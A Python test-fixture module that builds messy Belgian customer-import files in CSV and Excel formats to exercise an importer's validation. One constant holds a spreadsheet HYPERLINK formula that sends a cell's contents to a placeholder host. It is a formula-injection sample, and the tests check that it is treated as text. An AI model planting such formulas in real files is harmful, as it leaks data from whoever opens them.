"""Messy import files as offices really have them, made by the tests themselves."""
from __future__ import annotations

import datetime as dt
from pathlib import Path

from klantbeheer.data import clock

LONG_CELL = "x" * 30_000
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1;"klik")'

# A header in another order, in variants and cases the glossary does not spell exactly.
MESSY_HEADER = ["e-mail ADRES", "Rekeningnummer", "Btw nr", "naam", "GSM", "Postcode", "Externe Ref.",
                "BTW-percentage", "Geblokkeerd", "Reden", "Bericht", "Geblokkeerd tot", "Opmerkingen", "Kleur"]
MESSY_ROWS = [
    # line 2: é and ë in the name, IBAN typed with dots, BTW without BE, a decimal comma
    ["info@dubois.be", "be71.0961.2345.6769", "0867.756.456", "Hélène Dubois-Noë", "0478 12 34 56", "8830", "R-1",
     "6,00", "nee", "", "", "", "eerste regel\ntweede regel", "rood"],
    # line 4 (a quoted newline above makes the row two lines): old nine-digit BTW, blocked, dd/mm/yyyy
    ["", "", "867756456", "Zoë Brouwerij", "", "1000", "R-2", "21", "ja", "Wanbetaling", "Drie facturen open",
     "31/12/2099", "", ""],
    ["", "", "", "", "", "", "", "", "", "", "", "", "", ""],  # line 5: empty
    # line 6: ISO date, another reason spelling
    ["", "", "", "Garage Lemaire", "", "4000", "R-3", "", "JA", "fraude", "", "2099-06-30", "", ""],
    # line 7: a formula is text, never run
    ["", "", "", FORMULA, "", "", "R-4", "", "", "", "", "", "", ""],
    # line 8: a 30,000-character cell (remarks hold 4000) and a bad postcode: reported, not stored
    ["", "", "", "Te Lang BV", "", "9999", "R-5", "", "", "", "", "", LONG_CELL, ""],
    # line 9: every checked field wrong at once
    ["geen-mail", "BE00 1234", "BE0123456789", "Fout & Co", "12", "8830", "R-6", "7", "misschien", "", "", "", "", ""],
    # line 10: a block whose end date has passed
    ["", "", "", "Verlopen NV", "", "", "R-7", "", "ja", "Geschil", "", "01-01-2001", "", ""],
]


def write_csv(path: Path, header: list[str], rows: list[list[str]], encoding: str = "cp1252", separator: str = ";",
              bom: bool = False) -> Path:
    """A CSV as Excel writes it: CRLF, quotes only where needed."""
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=separator, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    data = buffer.getvalue().encode(encoding)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)
    return path


def write_xlsx(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    """An Excel workbook with the given cells (formulas stay formulas, dates stay dates)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def many_rows(path: Path, count: int, start: int = 10_000) -> Path:
    """A plain CSV of `count` valid customers with numbers from `start`."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("Nummer;Naam;Postcode;Gemeente;E-mail\n")
        for i in range(count):
            handle.write(f"{start + i};Klant {i} BV;9000;Gent;klant{i}@example.be\n")
    return path


TODAY_PLUS = (clock.today() + dt.timedelta(days=400)).strftime("%d/%m/%Y")
